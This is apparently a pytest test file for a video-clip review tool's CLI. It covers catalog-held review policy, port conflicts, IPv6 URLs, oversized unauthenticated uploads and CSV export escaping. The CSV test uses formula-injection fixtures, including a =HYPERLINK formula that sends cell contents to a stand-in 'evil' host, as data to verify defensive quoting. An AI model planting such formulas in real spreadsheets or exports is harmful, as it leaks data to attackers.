"""The review policy lives in the catalog and `vidmusician review` writes nothing before it serves (issue 22
items 2, 12, 13, 14), through the real CLI; the CSV export is safe to open in a spreadsheet (item 11)."""

from __future__ import annotations

import os
import re
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

import httpx
import pandas as pd
import pytest
from review_helpers import make_annotator, seed
from sqlalchemy import select

from dvmset import review
from dvmset.catalog import Catalog
from dvmset.tables import Clip, ReviewSettings
from flows.cli import main
from flows.commands.review_server import public_url


def status_of(catalog, clip_id: str) -> str:  # noqa: ANN001
    with catalog.session() as s:
        return s.get(Clip, clip_id).status


def free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return sock.getsockname()[1]


def test_the_policy_is_the_catalogs_and_a_refused_review_writes_nothing(data_root, capsys, monkeypatch):
    """Item 2 in-process: `review` with values other than the catalog's is refused with what to do, as is a
    catalog whose pending clips already hold enough verdicts; a busy port is refused before anything is
    written or announced (item 12); `review-policy set` says what it decides, --dry-run changes nothing."""
    monkeypatch.delenv("VIDMUSICIAN_DB", raising=False)
    root = ["--root", str(data_root.path)]
    catalog = Catalog(data_root.catalog_url)
    ids = seed(catalog, data_root, 3)
    ann, _ = make_annotator(catalog, "ann")
    with catalog.session() as s:  # what a server with --overlap 2 left before the policy lived in the catalog
        review.decide(s, ann, ids[0], "accept", policy=review.QueuePolicy(overlap=2))
    assert main(["review", *root, "--port", str(free_port())]) == 2
    assert "1 pending clip(s) already hold 1 verdict(s)" in capsys.readouterr().err
    assert status_of(catalog, ids[0]) == "pending_review"

    assert main(["review-policy", "set", "--overlap", "2", *root]) == 0
    out = capsys.readouterr().out
    assert "review policy is now: overlap 2, leases 600 s" in out and "decides no clip" in out
    assert main(["review", *root, "--overlap", "1", "--port", str(free_port())]) == 2
    err = capsys.readouterr().err
    assert "this catalog's review policy is overlap 2" in err and "vidmusician review-policy set" in err
    with socket.socket() as busy:
        busy.bind(("127.0.0.1", 0))
        busy.listen()
        port = busy.getsockname()[1]
        assert main(["review", *root, "--port", str(port)]) == 3
    err = capsys.readouterr().err
    assert f"cannot serve on 127.0.0.1:{port}" in err and "nothing was changed" in err
    assert "review tool on" not in err and "Traceback" not in err
    with catalog.session() as s:
        assert s.get(ReviewSettings, 1).server_url is None  # nothing recorded for a server that never ran
    assert status_of(catalog, ids[0]) == "pending_review"

    assert main(["review-policy", "set", "--overlap", "1", "--dry-run", *root]) == 0
    assert f"would decide 1 pending clip(s) that hold 1 verdict(s): 1 accepted, 0 rejected ({ids[0]} accepted)" in (
        capsys.readouterr().out)
    assert status_of(catalog, ids[0]) == "pending_review"
    assert main(["review-policy", "show", *root]) == 0
    assert "overlap 2" in capsys.readouterr().out
    assert main(["review-policy", "set", "--overlap", "1", *root]) == 0
    assert "decided 1 pending clip(s)" in capsys.readouterr().out
    assert status_of(catalog, ids[0]) == "accepted"
    assert main(["review-policy", "set", "--overlap", "3", "--lease-seconds", "90", *root]) == 0
    out = capsys.readouterr().out
    assert "1 clip(s) decided with fewer than 3 verdicts keep their status" in out and "leases 90 s" in out
    assert status_of(catalog, ids[0]) == "accepted"
    catalog.dispose()


@pytest.mark.parametrize("argv, says", [
    (["review", "--overlap", "0"], "give a whole number of verdicts per clip, 1 to 50"),
    (["review", "--lease-seconds", "0"], "give seconds from 10 to 86400"),
    (["review-policy", "set", "--overlap", "x"], "give a whole number"),
    (["review-policy", "set", "--lease-seconds", "nan"], "give seconds"),
])
def test_bad_policy_values_are_refused_without_a_traceback(argv, says, capsys):
    """Item 12: `--overlap 0` / `--lease-seconds 0` printed a traceback."""
    with pytest.raises(SystemExit) as exc:
        main(argv)
    err = capsys.readouterr().err
    assert exc.value.code == 2 and says in err and "Traceback" not in err


def test_urls_name_ipv6_hosts_in_brackets():
    """Item 13: `--host ::` printed http://:::8767/."""
    assert public_url("::1", 8767) == "http://[::1]:8767"
    assert public_url("127.0.0.1", 8767) == "http://127.0.0.1:8767"
    assert public_url("::", 8767) == f"http://{socket.getfqdn()}:8767"


def _rss_kb(pid: int) -> int:
    text = Path(f"/proc/{pid}/status").read_text()
    return int(re.search(r"VmRSS:\s+(\d+) kB", text).group(1))


class ReviewProcess:
    """`vidmusician review` as a subprocess; its stderr collected."""

    def __init__(self, root: Path, *args: str) -> None:
        env = {**os.environ, "PYTHONPATH": str(Path.cwd())}
        env.pop("VIDMUSICIAN_DB", None)
        self.proc = subprocess.Popen([sys.executable, "-m", "flows.cli", "review", "--root", str(root), *args],
                                     env=env, stderr=subprocess.PIPE, text=True)
        self.err: list[str] = []
        self._reader = threading.Thread(target=lambda: self.err.extend(self.proc.stderr), daemon=True)
        self._reader.start()

    def wait_for(self, text: str, timeout: float = 90) -> str:
        deadline = time.monotonic() + timeout
        while not any(text in line for line in self.err):
            assert self.proc.poll() is None and time.monotonic() < deadline, "".join(self.err)
            time.sleep(0.1)
        return "".join(self.err)

    def finish(self, timeout: float = 90) -> tuple[int, str]:
        rc = self.proc.wait(timeout=timeout)
        self._reader.join(timeout=5)
        return rc, "".join(self.err)

    def stop(self) -> None:
        if self.proc.poll() is None:
            self.proc.terminate()
            self.proc.wait(timeout=15)


@pytest.mark.slow
def test_a_second_review_process_changes_nothing(data_root, clip_media, capsys, monkeypatch):
    """Items 2, 6, 13, 14 through real processes: the issue's reproduction (a server at overlap 2, one
    verdict, a second `review` on the same port) leaves the clip pending; an unauthenticated 50 MB body
    does not grow the server; `annotators add` links to the port the server really runs on; a public
    bind warns that tokens travel in clear."""
    monkeypatch.delenv("VIDMUSICIAN_DB", raising=False)
    catalog = Catalog(data_root.catalog_url)
    ids = seed(catalog, data_root, 2, clip_media)
    _, token = make_annotator(catalog, "ann")
    with catalog.session() as s:
        review.set_policy(s, overlap=2)
    port = free_port()
    first = ReviewProcess(data_root.path, "--port", str(port))
    try:
        said = first.wait_for("review tool on")
        assert f"review tool on http://127.0.0.1:{port}/ (overlap 2, leases 600 s" in said
        base = f"http://127.0.0.1:{port}"
        verdict = {"clip_id": ids[0], "verdict": "accept"}
        r = httpx.post(f"{base}/api/decisions", json=verdict, headers={"Authorization": f"Bearer {token}"}, timeout=30)
        assert r.status_code == 409 and r.json()["needs_confirmation"]  # the command asks for 10 s of listening
        r = httpx.post(f"{base}/api/decisions", json={**verdict, "confirm": True},
                       headers={"Authorization": f"Bearer {token}"}, timeout=30)
        assert r.status_code == 201 and r.json()["clip_status"] == "pending_review"

        rc, err = ReviewProcess(data_root.path, "--port", str(port)).finish()
        assert rc == 3 and "cannot serve" in err and "review tool on" not in err
        rc, err = ReviewProcess(data_root.path, "--port", str(free_port()), "--overlap", "1").finish()
        assert rc == 2 and "review-policy set" in err
        assert status_of(catalog, ids[0]) == "pending_review"  # the reproduction accepted it

        before = _rss_kb(first.proc.pid)
        with socket.create_connection(("127.0.0.1", port), timeout=30) as sock:
            sock.sendall(f"POST /api/decisions HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n"
                         f"Content-Length: {50 * 2**20}\r\n\r\n".encode())
            answer = sock.recv(4096).decode("latin-1")
            sent = 0
            try:
                for _ in range(50):
                    sock.sendall(b"x" * 2**20)
                    sent += 1
            except OSError:
                pass  # the server closed the connection after its 401
        grown_mb = (_rss_kb(first.proc.pid) - before) / 1024
        assert answer.startswith("HTTP/1.1 401") and grown_mb < 20, (answer[:40], grown_mb)
        with capsys.disabled():
            print(f"unauthenticated 50 MB POST: 401, {sent} MB accepted by the socket, server RSS +{grown_mb:.1f} MB")

        assert main(["annotators", "add", "bob", "--root", str(data_root.path)]) == 0
        out = capsys.readouterr()
        assert f"login link: http://127.0.0.1:{port}/login?token=" in out.out
        assert f"link points at http://127.0.0.1:{port}" in out.err
    finally:
        first.stop()

    public = ReviewProcess(data_root.path, "--host", "0.0.0.0", "--port", "0")
    try:
        said = public.wait_for("review tool on")
        assert "login tokens and the sign-in cookie cross the network unencrypted" in said
        assert "TLS reverse proxy" in said
        assert re.search(rf"review tool on http://{re.escape(socket.getfqdn())}:\d+/", said), said
    finally:
        public.stop()
    catalog.dispose()


def test_csv_export_quotes_cells_a_spreadsheet_would_run(data_root, catalog, tmp_path, monkeypatch, capsys):
    """Item 11: notes such as =HYPERLINK(...) get a leading quote in the CSV (OWASP); parquet keeps them."""
    monkeypatch.delenv("VIDMUSICIAN_DB", raising=False)
    ids = seed(catalog, data_root, 4)
    ann, _ = make_annotator(catalog, "=ann")
    notes = ['=HYPERLINK("http://evil/?"&A1,"click")', "+1 spam", "@SUM(A1)", "fine -- no formula"]
    with catalog.session() as s:
        for clip_id, note in zip(ids, notes, strict=True):
            review.decide(s, ann, clip_id, "reject", ["other"], note)
    root = ["--root", str(data_root.path)]
    assert main(["decisions", "export", *root, "--format", "csv", "--out", str(tmp_path / "d.csv")]) == 0
    assert main(["decisions", "export", *root, "--format", "parquet", "--out", str(tmp_path / "d.parquet")]) == 0
    csv = pd.read_csv(tmp_path / "d.csv")
    assert list(csv["note"]) == ["'" + n for n in notes[:3]] + [notes[3]]
    assert set(csv["annotator"]) == {"'=ann"}
    assert list(pd.read_parquet(tmp_path / "d.parquet")["note"]) == notes
    with catalog.session() as s:
        assert s.scalars(select(Clip.status)).all() == ["rejected"] * 4
